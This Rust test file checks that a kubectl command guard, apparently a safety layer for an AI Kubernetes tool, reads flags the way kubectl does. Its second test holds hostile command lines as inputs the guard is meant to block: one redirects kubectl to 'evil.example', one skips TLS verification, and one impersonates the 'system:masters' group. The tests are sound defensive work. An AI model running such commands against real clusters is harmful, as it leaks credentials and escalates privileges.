//! The guard's kubectl grammar against the real kubectl: for every command kubectl's help
//! lists (crawled from `kubectl --help` down through every subcommand), every flag that takes a
//! value must be read with the next word as its value, and every boolean flag must leave the
//! next word alone, in its long and its short spelling. A flag read the wrong way hides the
//! word after it (a boolean read as taking a value hides `-s https://evil` after it) or makes
//! a value look like a flag, so the guard would judge another command than the one kubectl
//! runs.

use std::collections::BTreeSet;
use std::process::Command;

/// One flag from a help page: its long name, its shorthand, and whether it takes a value.
#[derive(Debug)]
struct HelpFlag {
    long: String,
    short: Option<char>,
    takes_value: bool,
}

fn help(path: &[String]) -> String {
    let out = Command::new("kubectl")
        .args(path)
        .arg("--help")
        .env("KUBECONFIG", "/dev/null")
        .output()
        .unwrap_or_else(|e| {
            panic!("cannot run kubectl (install it to run this test; it is #[ignore]d): {e}")
        });
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The subcommands a help page lists under "Available Commands:" or "... Commands (...):".
fn subcommands(page: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut listing = false;
    for line in page.lines() {
        if line.ends_with(':') && line.contains("Commands") {
            listing = true;
            continue;
        }
        if listing {
            let trimmed = line.trim_start();
            if line.is_empty() || trimmed.len() == line.len() {
                listing = !line.is_empty() && line.ends_with(':') && line.contains("Commands");
                continue;
            }
            if let Some(word) = trimmed.split_whitespace().next() {
                found.push(word.to_owned());
            }
        }
    }
    found
}

/// The flags of a help page's "Options:" section: `  -n, --namespace='':` or `  --all=false:`.
fn flags(page: &str) -> Vec<HelpFlag> {
    let mut found = Vec::new();
    let mut options = false;
    for line in page.lines() {
        if line == "Options:" {
            options = true;
            continue;
        }
        if options && line.starts_with(|c: char| c.is_ascii_alphabetic()) {
            break;
        }
        let trimmed = line.trim_start();
        let (short, rest) = match trimmed.strip_prefix('-') {
            Some(after) if !after.starts_with('-') => {
                let mut chars = after.chars();
                let short = chars.next();
                (short, chars.as_str().trim_start_matches(", "))
            }
            _ => (None, trimmed),
        };
        let Some(rest) = rest.strip_prefix("--").filter(|_| options) else {
            continue;
        };
        let Some((long, default)) = rest.split_once('=') else {
            continue;
        };
        let default = default.split(':').next().unwrap_or_default();
        found.push(HelpFlag {
            long: long.to_owned(),
            short,
            // Flags with a default for their bare form (pflag's NoOptDefVal) take a value only
            // after `=`: help cannot show it, so they are named here.
            takes_value: !matches!(default, "true" | "false")
                && !matches!(long, "dry-run" | "validate" | "cascade"),
        });
    }
    found
}

/// Whether the guard reads `flag` (as written) in `kubectl <path> <flag> VALUE` with VALUE as
/// its value.
fn guard_takes_value(path: &[String], flag: &str) -> Option<bool> {
    let mut argv: Vec<String> = vec!["kubectl".to_owned()];
    argv.extend(path.iter().cloned());
    argv.push(flag.to_owned());
    argv.push("VALUE-WORD".to_owned());
    let parsed = kopilot_safety::parse_argv(&argv);
    let reading = parsed.reading()?;
    let value_index = argv.len() - 1;
    Some(
        reading
            .flags()
            .iter()
            .any(|f| f.value_word == Some(value_index)),
    )
}

#[test]
#[ignore = "needs kubectl"]
fn every_flag_of_every_kubectl_command_is_read_as_kubectl_reads_it() {
    let mut queue: Vec<Vec<String>> = subcommands(&help(&[]))
        .into_iter()
        .map(|c| vec![c])
        .collect();
    let mut seen = BTreeSet::new();
    let mut checked = 0;
    let mut wrong = Vec::new();
    while let Some(path) = queue.pop() {
        if !seen.insert(path.clone()) || path.len() > 4 {
            continue;
        }
        // `kubectl help` and `completion` take no flags of interest; `plugin` lists plugins.
        if matches!(path[0].as_str(), "help" | "completion") {
            continue;
        }
        let page = help(&path);
        for sub in subcommands(&page) {
            let mut next = path.clone();
            next.push(sub);
            queue.push(next);
        }
        for flag in flags(&page) {
            let mut spellings = vec![format!("--{}", flag.long)];
            spellings.extend(flag.short.map(|c| format!("-{c}")));
            // kubectl reads `_` in a long name as `-`.
            if flag.long.contains('-') {
                spellings.push(format!("--{}", flag.long.replace('-', "_")));
            }
            for spelling in spellings {
                checked += 1;
                match guard_takes_value(&path, &spelling) {
                    Some(read) if read == flag.takes_value => {}
                    Some(read) => wrong.push(format!(
                        "kubectl {} {spelling}: kubectl {}, the guard reads {}",
                        path.join(" "),
                        if flag.takes_value {
                            "takes a value"
                        } else {
                            "takes none"
                        },
                        if read { "a value" } else { "none" }
                    )),
                    None => wrong.push(format!(
                        "kubectl {} {spelling}: the guard has no single reading",
                        path.join(" ")
                    )),
                }
            }
        }
    }
    assert!(
        checked > 1_000,
        "only {checked} flags found: the help pages were not read"
    );
    assert!(
        wrong.is_empty(),
        "{} of {checked} flag spellings are read differently from kubectl:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// What the table above fixed, seen in verdicts: a boolean read as taking a value hid the
/// connection flag after it, and `_` spellings of connection flags went unseen.
#[test]
fn connection_flags_after_booleans_and_in_underscore_spelling_are_seen() {
    use kopilot_safety::{Decision, Guard, Policy};
    let guard = Guard::new(Policy::default());
    for line in [
        "kubectl get pods --server-print -s https://evil.example",
        "kubectl top pod --containers -s https://evil.example",
        "kubectl logs web --prefix -s https://evil.example",
        "kubectl get pods --insecure_skip_tls_verify",
        "kubectl get pods --as_group system:masters",
    ] {
        let verdict = guard.assess(line);
        assert_ne!(verdict.decision, Decision::Allow, "{line}: {verdict:?}");
        assert!(
            verdict.commands[0].connection_flags.len()
                + usize::from(verdict.reasons.iter().any(|r| r.contains("impersonates")))
                > 0,
            "{line}: {verdict:?}"
        );
    }
    // A value that kubectl takes is not read as a flag or a resource.
    let prefixed = guard.assess("kubectl set env deploy/web --prefix -s -n shop --list");
    assert_eq!(prefixed.commands[0].connection_flags, Vec::<String>::new());
}
